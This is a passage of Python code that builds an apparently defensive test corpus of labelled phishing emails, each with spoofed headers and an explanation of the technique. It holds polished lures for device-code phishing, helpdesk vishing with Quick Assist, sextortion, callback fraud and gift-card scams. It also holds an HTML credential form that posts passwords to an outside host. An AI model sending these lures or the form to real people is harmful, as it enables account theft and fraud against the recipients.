    # ------------------------------------------------------------------ 11 en device-code phishing (compromised M365 tenant)
    p = """Hi Oliver,

Great to meet you at the Media Week drinks last Thursday. As promised, here's our revised proposal for the Q1 2027 out-of-home and experiential package for your drinks client.

I've shared the deck (Harlow_Creative_EG_Proposal_Q1-2027.pptx) with you through our Microsoft 365 workspace. Because you're outside our organisation, Microsoft asks external guests to authorise their device once before the file opens:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: GQ7KXLP9B
3. Sign in with your Example Group account

The code is only valid for 15 minutes, so if it has expired by the time you get to it, just reply and I'll generate a new one.

Looking forward to your thoughts - happy to jump on a call on Thursday.

Best,
Hannah

Hannah Price
New Business Director
Harlow Creative Studio
Unit 4, 12 Vyner Street, London E2 9DG
"""
    out.append(M(name='11-en-device-code-phishing-compromised-partner', folder=A, lang='en', t=T(11, 5, 14, 32, 47),
                 mailer=I.m365(helo='GBR01-LO4-obe.outbound.protection.outlook.com',
                               rdns='mail-lo4gbr01on2104.outbound.protection.outlook.com', ip='40.107.21.104',
                               mbx='LO2P265MB5512', pod='GBRP265', edge='CWLP265MB3876', tenant='harlowcreative',
                               lang='en-GB', tz='UK'),
                 frm=('Hannah Price', 'hannah.price@harlowcreative.co.uk'), to=[st('oliver.bennett')],
                 rcpt='oliver.bennett@example.com',
                 subject='Harlow Creative - revised OOH proposal Q1 2027',
                 body=alt(p, 'iso-8859-1', style='outlook', lang='EN-GB'),
                 what='New-business contact "shares" a proposal deck and asks to enter a code at microsoft.com/devicelogin',
                 why='OAuth device-code phishing: the attacker started a device-code flow and asks the victim to enter the code on the genuine Microsoft page, which hands the attacker tokens for the victim\'s account; "external guests must authorise the device" is false; 15-minute validity shows a live session; sent from a compromised small agency tenant, so sender authentication passes.',
                 technique='Device-code phishing (genuine microsoft.com/devicelogin), compromised M365 tenant',
                 pairs=['10-en-entra-risky-users-alert-genuine']))

    # ------------------------------------------------------------------ 12 en Teams helpdesk vishing pretext
    p = """Hello Julia,

Our monitoring has detected an unusually high volume of inbound messages to your mailbox since 07:15 this morning (more than 3,400 newsletter and sign-up confirmations). This is a known type of attack ("subscription bombing") that is often used to hide fraudulent orders or password-reset e-mails.

We have started filtering the affected senders on the server side. To remove the remaining messages and apply the protection rule to your Outlook client, a member of our 2nd-level support team will contact you via Microsoft Teams within the next 15 minutes.

Please note:
- The chat will be shown as "External" because our support team works from the Service Desk tenant.
- Please accept the chat request and, when asked, start Quick Assist (Windows key + Ctrl + Q) and share the security code with the technician.
- Do not delete or unsubscribe from any of the messages yourself, as this confirms your address to the attackers.

Ticket: INC0048812
Priority: High

Kind regards,
IT Service Desk
Example Group
"""
    out.append(M(name='12-en-teams-helpdesk-vishing-pretext', folder=A, lang='en', t=T(11, 19, 7, 41, 2),
                 mailer=I.m365(helo='EUR03-VI1-obe.outbound.protection.outlook.com',
                               rdns='mail-vi1eur03on2072.outbound.protection.outlook.com', ip='40.107.103.72',
                               mbx='PA4PR08MB7243', pod='eurprd08', edge='VI1PR08MB10120', tenant='exgroupsupport',
                               lang='en-US', tz='CET'),
                 frm=('Example Group IT Service Desk', 'servicedesk@exgroupsupport.onmicrosoft.com'),
                 to=[st('julia.neumann')], rcpt='julia.neumann@example.com',
                 subject='[INC0048812] Mailbox flooding detected - support will contact you via Teams',
                 body=alt(p, 'utf-8', style='outlook', lang='EN-US'),
                 what='"IT Service Desk" announces a Teams call about mailbox flooding and asks to start Quick Assist',
                 why='Helpdesk vishing pretext used by ransomware affiliates: sender is an external *.onmicrosoft.com tenant named like internal IT, prepares the victim to accept an "External" Teams chat and start Quick Assist (remote control). The real Service Desk never uses external tenants or Quick Assist (business 14).',
                 technique='Teams / remote-access vishing pretext (subscription bombing, Quick Assist), onmicrosoft.com tenant',
                 pairs=['14-en-it-servicedesk-contact-rules-internal', '16-en-colleague-broken-laptop-private-gmail']))

    # ------------------------------------------------------------------ 13 en sextortion with BTC (spoofed self-sender)
    btc = C.btc_p2wpkh('audit61-extortion-wallet')
    p = """Hello Marco,

I'll keep this short. A few months ago I gained access to the devices you use for email and browsing through a vulnerability in your router's firmware. Since then I have been monitoring your activity.

I have recordings made with your camera while you were visiting adult websites, together with a screen capture of what you were watching. I also have a copy of your contacts, including your colleagues at Example Group and your clients.

If you want this material deleted, transfer 1350 USD in Bitcoin to the address below:

%s

You have 48 hours from the moment you open this message. I can see when it has been opened. If I do not receive the payment, the video will be sent to every contact in your address book and published.

Do not reply to this email - it was sent from your own account, which shows you how much access I have. Going to the police will not help; the wallet cannot be traced.

Once the payment is confirmed, everything will be deleted and you will not hear from me again.
""" % btc
    out.append(M(name='13-en-sextortion-bitcoin-spoofed-self', folder=A, lang='en', t=T(11, 8, 3, 26, 51),
                 mailer=I.exim('cp14.eu-webhosting.net', '185.119.172.66', 'cp14.eu-webhosting.net',
                               '45.141.87.212', '[127.0.0.1]', 'wordpress@pension-alpenblick-tirol.at',
                               msgid_domain='pension-alpenblick-tirol.at', boundary='phpmailer'),
                 frm=('Marco Ricci', 'marco.ricci@example.com'), to=[st('marco.ricci')],
                 rcpt='marco.ricci@example.com', subject='Marco, your account has been compromised - pending payment',
                 body=text(p, 'us-ascii', '7bit'),
                 what='Sextortion claiming webcam recordings, demanding USD 1,350 in Bitcoin within 48 h',
                 why='Extortion: From forged as the recipient\'s own address while the envelope sender is a hijacked WordPress site on shared cPanel hosting; generic threats, Bitcoin address (valid bech32), deadline.',
                 technique='Extortion / sextortion with Bitcoin (bech32), spoofed self-sender, compromised shared hosting',
                 pairs=[]))
    out[-1]['btc'] = btc

    # ------------------------------------------------------------------ 14 en callback phishing via PayPal invoice
    inv = 'INV2-7HQK-XE4M-9C2D-LW8P'
    note = ('Adobe Creative Cloud for teams - All Apps, 25 licences, annual plan, renewal for Example Group. '
            'Your account has been charged automatically. If you did not authorise this renewal or wish to cancel '
            'and receive a refund, call Adobe Billing Support within 24 hours on +44 20 7946 0417 (24/7). '
            'Do not pay this invoice online.')
    p = """Adobe Billing Dept. sent you an invoice for €1,849.00 EUR

Due on receipt

Amount requested: €1,849.00 EUR

Note from seller:
%s

Invoice number: %s
Seller: Adobe Billing Dept. (adobe.billing.department@outlook.com)

View and Pay Invoice: https://www.paypal.com/invoice/p/#%s

Don't recognise this invoice? Report this invoice: https://www.paypal.com/invoice/report/%s

Help & Contact | Security | Apps
PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.
Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg.
""" % (note, inv, inv.replace('-', ''), inv.replace('-', ''))
    h = page('PayPal', """<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif;color:#2c2e2f">
<tr><td style="padding:20px 0"><span style="font-size:26px;font-weight:bold;color:#003087">Pay</span><span style="font-size:26px;font-weight:bold;color:#009cde">Pal</span></td></tr>
<tr><td style="font-size:22px;padding:8px 0">Adobe Billing Dept. sent you an invoice for €1,849.00 EUR</td></tr>
<tr><td style="color:#6c7378;padding-bottom:16px">Due on receipt</td></tr>
<tr><td style="background:#f5f7fa;padding:16px"><b>Note from seller:</b><br>%s</td></tr>
<tr><td style="padding:16px 0">Invoice number: %s<br>Seller: Adobe Billing Dept. (adobe.billing.department@outlook.com)</td></tr>
<tr><td style="padding:10px 0 24px"><a href="https://www.paypal.com/invoice/p/#%s" style="background:#0070ba;color:#fff;padding:12px 30px;border-radius:25px;text-decoration:none;font-weight:bold">View and Pay Invoice</a></td></tr>
<tr><td style="font-size:12px;color:#6c7378">Don't recognise this invoice? <a href="https://www.paypal.com/invoice/report/%s">Report this invoice</a><br><br>
PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br>
Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal L-2449, Luxembourg.</td></tr>
</table>""" % (esc(note), inv, inv.replace('-', ''), inv.replace('-', '')))
    out.append(M(name='14-en-callback-phishing-paypal-invoice', folder=A, lang='en', t=T(10, 22, 14, 18, 33),
                 mailer=I.paypal(),
                 frm=('Adobe Billing Dept. via PayPal', 'service@paypal.com'), to=[st('daniel.wagner')],
                 rcpt='daniel.wagner@example.com',
                 subject='Invoice from Adobe Billing Dept. (%s)' % inv,
                 body=alt(p, html_body=h),
                 what='PayPal invoice "from Adobe" for a EUR 1,849 licence renewal with a phone number to cancel',
                 why='Callback phishing (TOAD) through abused genuine PayPal invoicing: the mail really comes from PayPal, but the seller is a fraudster account and the "note" pushes the victim to call a phone number, where the caller is talked into remote access or a refund scam. Adobe does not bill via PayPal invoices from an outlook.com seller.',
                 technique='Callback phishing (TOAD) via abused genuine service (PayPal invoice)',
                 pairs=[]))

    # ------------------------------------------------------------------ 15 en fake DocuSign HR bonus (SendGrid, HTML attachment)
    form_url = 'https://docusign-eu-access.firebaseapp.com/auth/verify'
    p = """Katrin Vogel sent you a document to review and sign.

REVIEW DOCUMENT (open the attached secure document)

Katrin Vogel
katrin.vogel@example.com

Hello Birgit Lorenz,

As part of the annual compensation review, please find your individual salary adjustment and bonus allocation for 2027 attached. Please review and sign the document by 10 December 2026 so that the changes can be reflected in the January payroll.

For security reasons the document is attached as an encrypted Docusign file. Open the attachment and confirm your identity with your company email and password to view it.

Kind regards,
HR / Payroll

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
"""
    h = page('Docusign', """<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif;background:#eaeaea"><tr><td style="padding:24px">
<div style="background:#fff;padding:28px">
<div style="font-size:22px;font-weight:bold;color:#000">docusign</div>
<div style="background:#4c00ff;color:#fff;text-align:center;padding:28px;margin:18px 0;font-size:16px">Katrin Vogel sent you a document to review and sign.<br><br>
<span style="display:inline-block;background:#ffc820;color:#000;padding:10px 22px;font-weight:bold;font-size:14px">REVIEW DOCUMENT</span><br><br>
<span style="font-size:12px">The document is attached: Compensation_Adjustment_2027_BLorenz.html</span></div>
<p><b>Katrin Vogel</b><br>katrin.vogel@example.com</p>
<p>Hello Birgit Lorenz,</p>
<p>As part of the annual compensation review, please find your individual salary adjustment and bonus allocation for 2027 attached. Please review and sign the document by 10 December 2026 so that the changes can be reflected in the January payroll.</p>
<p>For security reasons the document is attached as an encrypted Docusign file. Open the attachment and confirm your identity with your company email and password to view it.</p>
<p>Kind regards,<br>HR / Payroll</p></div>
<p style="font-size:11px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</p>
</td></tr></table>""")
    att = page('Docusign - Compensation_Adjustment_2027_BLorenz.pdf', """<div class="wrap">
<div class="hd">docusign</div>
<div class="doc"><div class="blur">COMPENSATION ADJUSTMENT 2027 · Birgit Lorenz · Salary band / bonus allocation ...</div></div>
<form class="card" method="post" action="%s">
<h2>Verify your identity to view the document</h2>
<p>Compensation_Adjustment_2027_BLorenz.pdf · 2 pages · sent by Katrin Vogel</p>
<label>Email</label><input type="email" name="login" value="birgit.lorenz@example.com">
<label>Password</label><input type="password" name="passwd" placeholder="Company password">
<input type="hidden" name="env" value="8f41c2d0-73aa-4b6e-9d11-5c0be2a7f318">
<button type="submit">VIEW DOCUMENT</button>
<p class="small">Secured by Docusign · Microsoft 365 authentication</p>
</form></div>""" % esc(form_url), css="""body{margin:0;background:#f4f4f4;font-family:Helvetica,Arial,sans-serif}
.hd{background:#fff;padding:14px 24px;font-weight:bold;font-size:20px;border-bottom:1px solid #ddd}
.doc{height:300px;margin:20px auto;max-width:620px;background:#fff}.blur{filter:blur(4px);padding:40px;color:#444}
.card{position:absolute;top:120px;left:50%;transform:translateX(-50%);width:360px;background:#fff;padding:26px;box-shadow:0 4px 18px rgba(0,0,0,.25)}
label{display:block;font-size:12px;margin-top:10px}input{width:100%;padding:8px;margin-top:4px;box-sizing:border-box}
button{margin-top:18px;width:100%;background:#ffc820;border:0;padding:11px;font-weight:bold}.small{font-size:11px;color:#777}""")
    out.append(M(name='15-en-fake-docusign-bonus-html-attachment', folder=A, lang='en', t=T(12, 3, 6, 56, 12),
                 mailer=I.sendgrid('esign-docusign.net'),
                 frm=('Katrin Vogel via Docusign', 'dse-eu@esign-docusign.net'), to=[st('birgit.lorenz')],
                 rcpt='birgit.lorenz@example.com',
                 subject='Complete with Docusign: Compensation_Adjustment_2027_Birgit_Lorenz.pdf',
                 body=multi('mixed', alt(p, html_body=h),
                            attachment('text/html', 'Compensation_Adjustment_2027_BLorenz.html', att.encode('utf-8'),
                                       ctparams=['charset="utf-8"'])),
                 what='"DocuSign" envelope from HR with the 2027 salary adjustment as an HTML attachment',
                 why='Credential phishing: DocuSign branding and the HR manager\'s name, but sent from esign-docusign.net through a SendGrid account; the "document" is a local HTML file with a login form (address pre-filled) posting to firebaseapp.com. Genuine DocuSign envelopes come from docusign.net and link to docusign.net, never attach HTML (business 09).',
                 technique='HTML attachment credential form, DocuSign/HR bonus lure, bulk ESP (SendGrid)',
                 pairs=['09-en-docusign-envelope-genuine']))

    # ------------------------------------------------------------------ 16 en gift cards (outlook.com)
    p = """Hi Oliver,

Are you in the office today? I need you to sort something out for me discreetly.

We want to say thank you to the creators from the UK autumn campaign before the client dinner tonight, and I'd like to surprise them with Apple gift cards. Could you get 8 Apple gift cards of £100 each – online or from a shop near the office? I'll make sure Sabine reimburses you through expenses tomorrow.

Once you have them, scratch off the back, take a clear photo of each card showing the code and send the pictures to me here. I'm in back-to-back meetings all afternoon, so email is easiest. Please keep it between us for now, it's meant to be a surprise.

Thanks,
Jörg

Get Outlook for iOS
"""
    out.append(M(name='16-en-gift-card-ceo-impersonation', folder=A, lang='en', t=T(12, 10, 11, 7, 26),
                 mailer=I.outlook_com(lang='en-GB', tz='CET'),
                 frm=('Jörg Hoffmann', 'j.hoffmann.examplegroup@outlook.com'), to=[st('oliver.bennett')],
                 rcpt='oliver.bennett@example.com', subject='Quick favour',
                 body=alt(p, 'utf-8', style='outlook', lang='EN-GB'),
                 what='"CEO" asks the London office manager to buy 8 x GBP 100 Apple gift cards and send photos of the codes',
                 why='Gift-card scam / CEO impersonation: CEO display name on an outlook.com address, secrecy, urgency, reimbursement promise, codes requested by photo. The real CEO mails through the internal relay (business 01).',
                 technique='Gift-card fraud, CEO impersonation via outlook.com',
                 pairs=['01-de-ceo-urgent-payment-internal', '16-en-colleague-broken-laptop-private-gmail']))
    return out
